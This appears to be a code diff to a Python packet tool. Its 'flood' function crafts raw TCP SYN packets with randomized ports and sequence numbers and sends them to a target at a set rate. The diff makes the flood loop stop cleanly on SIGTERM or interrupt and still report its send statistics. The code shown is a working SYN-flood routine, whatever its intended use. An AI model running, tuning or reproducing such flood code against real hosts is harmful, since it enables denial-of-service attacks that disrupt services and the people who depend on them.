@@ -30,6 +30,7 @@ import json
 import os
 import random
 import select
+import signal
 import socket
 import struct
 import sys
@@ -381,18 +382,23 @@ def flood(dst, port, token, seconds, pps):
         pool.append(tcp_packet(src, dst, 1024 + random.randrange(60000), port,
                                random.randrange(1 << 32), 0, TCP_SYN, mss + opt))
     dest = (dst, 0)
+
+    def stop(*_):
+        raise KeyboardInterrupt
+    signal.signal(signal.SIGTERM, stop)
     sent = 0
     start = time.time()
     end = start + seconds
-    while True:
-        now = time.time()
-        if now >= end:
-            break
-        due = int((now - start) * pps)
-        while sent < due:
-            raw.sendto(pool[sent % len(pool)], dest)
-            sent += 1
-        time.sleep(0.002)
+    try:
+        while time.time() < end:
+            now = time.time()
+            due = int((now - start) * pps)
+            while sent < due:
+                raw.sendto(pool[sent % len(pool)], dest)
+                sent += 1
+            time.sleep(0.002)
+    except KeyboardInterrupt:
+        pass
     el = time.time() - start
     return {'sent': sent, 'seconds': round(el, 2), 'pps': round(sent / el)}
 
